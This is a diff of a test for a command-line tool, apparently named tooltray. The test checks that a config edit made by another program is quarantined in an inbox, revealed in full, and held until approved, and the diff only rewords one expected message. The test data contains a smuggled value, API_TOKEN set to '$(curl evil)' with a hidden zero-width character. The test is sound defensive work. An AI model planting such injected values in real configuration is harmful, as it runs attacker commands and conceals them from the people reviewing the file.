@@ -24,7 +24,7 @@ test('an edit of the config file by another program is listed, shown whole, and 
   expect(ill.stdout).toContain(`tooltray inbox approve ${id}`);
   const shown = (await home.run('inbox', 'show', id, '--reveal')).stdout;
   expect(shown).toContain('+ Variable API_TOKEN: "$(curl evil)⟨U+200B⟩"');
-  expect(shown).toContain('Another program wrote it into the config file.');
+  expect(shown).toContain('Another program added it to the config file.');
   expect((await home.run('enable', 'evil')).stderr).toContain('tooltray inbox show evil');
   const approved = await home.run('inbox', 'approve', id);
   expect(approved.code).toBe(0);
